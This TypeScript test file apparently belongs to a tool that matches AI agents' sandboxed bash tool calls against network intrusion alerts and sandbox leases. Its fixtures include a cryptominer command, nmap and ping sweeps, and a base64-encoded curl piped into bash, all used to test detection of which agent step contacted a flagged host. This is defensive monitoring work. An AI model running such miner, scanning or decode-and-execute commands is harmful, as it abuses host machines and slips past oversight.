import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hashOf, TextSet } from '../../src/correlate/bloom.ts';
import { ChanceTest } from '../../src/correlate/chance.ts';
import { parseCsv } from '../../src/correlate/csv.ts';
import type { Episode } from '../../src/correlate/episode.ts';
import { episodeOf } from '../../src/correlate/episode-of.ts';
import { readLeases } from '../../src/correlate/lease.ts';
import { Occupancy } from '../../src/correlate/occupancy.ts';
import { isInNetwork, placesIn } from '../../src/correlate/places.ts';
import { randomNumbers } from '../../src/correlate/random.ts';
import { RecordSorter } from '../../src/correlate/record-sorter.ts';
import { TelemetryRows, TelemetryWriter } from '../../src/correlate/row-telemetry.ts';
import type { Step, Trajectory } from '../../src/trajectory/model.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { correlateFiles, eve, minutes, noon } from './world.ts';

describe('sorting more than fits into memory', () => {
  test('gives all records by number, equal ones in the order in which they came', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.integer({ min: 0, max: 20 }), fc.string())), (records) => {
        const sorter = new RecordSorter<string>(temporaryFolder(), 'x');
        for (const [key, text] of records) sorter.add(key, text);
        const expected = [...records.entries()]
          .sort(([a, [x]], [b, [y]]) => x - y || a - b)
          .map(([, record]) => record[1]);
        expect([...sorter.sorted()].map(({ record }) => record)).toEqual(expected);
      }),
      { numRuns: 50 },
    );
  });

  test('through files, more of them than are merged at once', () => {
    const sorter = new RecordSorter<{ at: number; pad: string }>(temporaryFolder(), 'x', 4000);
    // a record may be longer than a block that is read or written
    const long = 'ü'.repeat(700_000);
    const count = 20_000;
    for (let at = 0; at < count; at++)
      sorter.add((at * 7919) % 97, { at, pad: at % 5000 === 7 ? long : 'ü' });
    let before = { key: -1, at: -1 };
    let seen = 0;
    for (const { key, record } of sorter.sorted()) {
      expect(key > before.key || (key === before.key && record.at > before.at)).toBe(true);
      expect(key).toBe((record.at * 7919) % 97);
      before = { key, at: record.at };
      seen += 1;
    }
    expect(seen).toBe(count);
    sorter.remove();
  });
});

test('a set of texts forgets none of them', () => {
  fc.assert(
    fc.property(fc.array(fc.string(), { minLength: 1 }), (texts) => {
      const set = new TextSet(1 << 12);
      for (const text of texts) set.add(text);
      for (const text of texts) expect(set.has(text)).toBe(true);
    }),
  );
  const set = new TextSet(1 << 20);
  for (let at = 0; at < 10_000; at++) set.add(`10.0.${at >> 8}.${at & 255}`);
  const wrong = Array.from({ length: 10_000 }, (_, at) => `192.168.${at >> 8}.${at & 255}`).filter((text) =>
    set.has(text),
  );
  expect(wrong.length).toBeLessThan(20);
  expect(hashOf('a')).not.toBe(hashOf('b'));
});

describe('places in a text', () => {
  const names = (text: string) =>
    placesIn(text).map(({ name, port }) => (port === undefined ? name : `${name}:${port}`));

  test('addresses, names, networks and loops over them, with their ports', () => {
    expect(names('xmrig -o stratum+tcp://Pool.Example:3333 -a 45.9.148.3:4444')).toEqual([
      'pool.example:3333',
      '45.9.148.3:4444',
    ]);
    expect(names('nmap 10.8.3.0/24; for i in {1..254}; do ping 10.9.9.$i; done')).toEqual([
      '10.8.3.0/24',
      '10.9.9.0/24',
    ]);
    expect(names('nmap 10.1.2.1-254')).toContain('10.1.2.0/24');
    expect(names('curl http://[2001:db8::7]:8080/')).toEqual(
      ['2001:db8::7:8080'].map(() => '2001:db8::7:8080'),
    );
  });

  test('versions, wide networks and numbers that are no addresses are none', () => {
    expect(names('300.1.2.3 1.2.3 10.0.0.0/8')).toEqual([]);
  });

  test('no text takes more than linear time', () => {
    for (const text of [
      'a.'.repeat(200_000),
      `${'a'.repeat(400_000)}.`,
      '1.2.3.'.repeat(100_000),
      ':'.repeat(400_000),
      'a:'.repeat(200_000),
      `${'-a'.repeat(200_000)}.`,
    ]) {
      const before = performance.now();
      placesIn(text);
      expect(performance.now() - before).toBeLessThan(5000);
    }
  });

  test('an address is in its network alone', () => {
    expect(isInNetwork('10.8.3.77', '10.8.3.0/24')).toBe(true);
    expect(isInNetwork('10.8.4.77', '10.8.3.0/24')).toBe(false);
    expect(isInNetwork('10.8.3.77', '10.8.3.128/25')).toBe(false);
  });
});

test('cells of CSV come back as they were written', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.string().filter((cell) => !/[\r\n]/.test(cell)),
        { minLength: 1 },
      ),
      (cells) => {
        const line = cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
        expect(parseCsv(line)).toEqual(cells);
      },
    ),
  );
  expect(parseCsv('a,"b')).toBeUndefined();
});

describe('leases', () => {
  const read = async (text: string) => {
    const file = join(temporaryFolder(), 'leases.csv');
    writeFileSync(file, text);
    const leases = [];
    for await (const lease of readLeases(file, undefined)) leases.push(lease);
    return leases;
  };

  test("the columns of ROCK's registry are known; a sandbox that still runs has no end", async () => {
    const text =
      'sandbox_id,host_ip,host_name,start_time,stop_time\nsb-1,10.0.0.7,GPU-01,2026-03-01T20:00:00+08:00,2026-03-01T12:30:00Z\nsb-2,10.0.0.8,,1772366400,\n';
    const [first, second] = await read(text);
    expect(first).toEqual({
      sandbox: 'sb-1',
      address: '10.0.0.7',
      host: 'gpu-01',
      start: noon,
      end: noon + 30 * minutes,
    });
    expect(second).toMatchObject({ sandbox: 'sb-2', address: '10.0.0.8', start: noon });
    expect(second!.end).toBeGreaterThan(Date.UTC(2100));
  });

  test('a row that is none is an error: a lease that is missed makes a wrong match', async () => {
    await expect(read('sandbox,host,from\nsb-1,10.0.0.7,soon\n')).rejects.toMatchObject({
      code: 'lease-unreadable',
      where: { line: 2 },
    });
    await expect(read('sandbox,host,from\nsb-1,10.0.0.7,2026-03-01T12:00:00\n')).rejects.toMatchObject({
      code: 'naive-time',
    });
  });
});

describe('windows', () => {
  const step = (index: number, startTime: number | undefined, command?: string): Step => ({
    index,
    role: 'assistant',
    text: '',
    toolCalls:
      command === undefined ? [] : [{ index: 0, name: 'bash', arguments: JSON.stringify({ command }) }],
    observations: [],
    ...(startTime === undefined ? {} : { startTime }),
  });
  const read = (trajectory: Trajectory, places: string[] = []): Episode => {
    const wanted = new TextSet(1 << 12);
    for (const place of places) wanted.add(place);
    return episodeOf(
      trajectory,
      { ordinal: 0, file: 0, row: 0, fileName: 'x' },
      { zone: undefined, places: wanted },
    );
  };

  test('the tools of a step run until the next time that is known', () => {
    const steps = [
      step(0, noon),
      step(1, noon + minutes, 'ls'),
      step(2, undefined),
      step(3, noon + 3 * minutes, 'ls'),
      step(4, noon + 4 * minutes),
    ];
    expect(read({ steps, metadata: {} })).toMatchObject({
      start: noon,
      end: noon + 4 * minutes,
      firstActing: 1,
      steps: [
        { step: 1, start: noon + minutes, end: noon + 3 * minutes },
        { step: 3, start: noon + 3 * minutes, end: noon + 4 * minutes },
      ],
    });
  });

  test('a single time is no window', () => {
    expect(
      read({ steps: [step(0, undefined, 'ls')], metadata: { startTime: noon, endTime: noon } }),
    ).not.toHaveProperty('start');
  });

  test('what is decoded and run is gone to, what is shown is named; the rest is not looked for', () => {
    const encoded = Buffer.from('curl http://45.9.148.3/x').toString('base64');
    const steps = [
      step(0, noon, `echo ${encoded} | base64 -d | bash`),
      step(1, noon, 'echo 203.0.113.9'),
      step(2, noon, 'curl http://8.8.8.8/'),
    ];
    const { named } = read({ steps, metadata: {} }, ['45.9.148.3', '203.0.113.9']);
    const gone = named.filter(({ name }) => name === '45.9.148.3');
    expect(gone.map(({ step: at, naming }) => `${at} ${naming}`)).toContain('0 executed');
    expect(gone.some(({ naming }) => naming === 'mentioned')).toBe(false);
    expect(named.filter(({ name }) => name === '203.0.113.9')).toMatchObject([
      { step: 1, naming: 'mentioned' },
    ]);
    expect(named.some(({ name }) => name === '8.8.8.8')).toBe(false);
  });

  test('ATIF: the step of an alert is told by its time', async () => {
    const folder = temporaryFolder();
    const iso = (time: number) => new Date(time).toISOString();
    const agent = (id: number, time: number, command: string) => ({
      step_id: id,
      timestamp: iso(time),
      source: 'agent',
      message: '',
      tool_calls: [{ tool_call_id: `c${id}`, function_name: 'bash', arguments: { command } }],
      observation: { results: [{ source_call_id: `c${id}`, content: 'ok' }] },
    });
    const trajectory = {
      schema_version: 'ATIF-v1.5',
      session_id: 's',
      agent: { name: 'a', version: '1' },
      steps: [
        { step_id: 1, timestamp: iso(noon), source: 'user', message: 'go' },
        agent(2, noon + minutes, 'make'),
        agent(3, noon + 3 * minutes, 'curl http://45.9.148.3:3333/'),
        agent(4, noon + 5 * minutes, 'ls'),
      ],
    };
    const input = join(folder, 'trajectory.jsonl');
    writeFileSync(input, `${JSON.stringify(trajectory)}\n`);
    const alerts = join(folder, 'eve.json');
    writeFileSync(alerts, `${eve({ time: noon + 4 * minutes })}\n`);
    const { table } = await correlateFiles(folder, [input], [alerts]);
    // without an address of its own the episode is found by what its call names
    expect(await table('ambiguous.parquet')).toMatchObject([]);
    expect(await table('matches.parquet')).toMatchObject([
      { strength: 'content', step: 2, step_by: 'named' },
    ]);
  });

  test('ROCK: the tools of a reply run until the next call of the model', async () => {
    const folder = temporaryFolder();
    const line = (start: number, end: number, command: string) =>
      JSON.stringify({
        model: 'm',
        start_time: start / 1000,
        end_time: end / 1000,
        request: { messages: [{ role: 'user', content: 'go' }] },
        response: {
          id: `r${start}`,
          choices: [
            {
              message: {
                role: 'assistant',
                content: '',
                tool_calls: [
                  {
                    id: 'c',
                    type: 'function',
                    function: { name: 'bash', arguments: JSON.stringify({ command }) },
                  },
                ],
              },
            },
          ],
        },
      });
    const input = join(folder, 'LLMTraj.jsonl');
    const calls = [
      line(noon, noon + minutes, 'curl http://45.9.148.3:3333/'),
      line(noon + 5 * minutes, noon + 6 * minutes, 'curl http://45.9.148.4:3333/'),
    ];
    writeFileSync(input, `${calls.join('\n')}\n`);
    const alerts = join(folder, 'eve.json');
    writeFileSync(
      alerts,
      [eve({ time: noon + 3 * minutes }), eve({ time: noon + 6 * minutes + 2000, to: '45.9.148.4' })].join(
        '\n',
      ),
    );
    const { table } = await correlateFiles(folder, [input], [alerts]);
    expect(await table('matches.parquet')).toMatchObject([
      { id: `r${noon}`, relation: 'during' },
      { id: `r${noon + 5 * minutes}`, relation: 'after' },
    ]);
  });
});

describe('chance', () => {
  const hour = 60 * minutes;

  function chanceOf(times: number[]): ReturnType<ChanceTest['run']> {
    const occupancy = new Occupancy();
    for (let day = 0; day < 30; day++)
      occupancy.mark('address 10.0.0.7', noon + day * 24 * hour, noon + day * 24 * hour + hour);
    const chance = new ChanceTest(occupancy, 1);
    for (const time of times) chance.add('address 10.0.0.7', '10.0.0.7', 'x', time);
    return chance.run(199);
  }

  test('alerts that coincide with tools are not chance', () => {
    const { all, signatures } = chanceOf(
      Array.from({ length: 30 }, (_, day) => noon + day * 24 * hour + (day % 7) * 8 * minutes),
    );
    expect(all).toMatchObject({ alerts: 30, observed: 1, pValue: 0.005 });
    expect(all!.lift).toBeGreaterThan(10);
    expect(signatures).toMatchObject([{ name: 'x', pValue: 0.005 }]);
  });

  test('alerts at any time are, and the same seed says the same', () => {
    const random = randomNumbers(7);
    const times = Array.from({ length: 400 }, () => noon + random() * 29 * 24 * hour);
    const first = chanceOf(times);
    expect(first.all!.lift).toBeGreaterThan(0.5);
    expect(first.all!.lift).toBeLessThan(1.6);
    expect(first.all!.pValue).toBeGreaterThan(0.02);
    expect(chanceOf(times)).toEqual(first);
  });

  test('alerts of a machine that no episode ran on are left out', () => {
    const chance = new ChanceTest(new Occupancy(), 1);
    chance.add('address 10.0.0.9', '10.0.0.9', 'x', noon);
    expect(chance.run(19).all).toBeNull();
  });
});

test('what was seen of a row comes back row by row, for each input its own', () => {
  fc.assert(
    fc.property(fc.uniqueArray(fc.nat(500)), fc.uniqueArray(fc.nat(500)), (first, second) => {
      const folder = join(temporaryFolder(), 'telemetry');
      const inputs = ['a', 'b', 'c'];
      const writer = new TelemetryWriter(folder, inputs);
      const sorted = (rows: number[]) => [...rows].sort((a, b) => a - b);
      for (const row of sorted(first)) writer.add(0, { row, findings: [], bearing: [] });
      for (const row of sorted(second)) writer.add(2, { row, findings: [], bearing: [] });
      writer.finish();
      const read = (file: string) => {
        const rows = new TelemetryRows(folder, file, inputs);
        return Array.from({ length: 501 }, (_, row) => row).filter((row) => rows.at(row)?.row === row);
      };
      expect(read('a')).toEqual(sorted(first));
      expect(read('b')).toEqual([]);
      expect(() => read('d')).toThrow(/none of the inputs/);
      expect(read('c')).toEqual(sorted(second));
    }),
    { numRuns: 20 },
  );
});
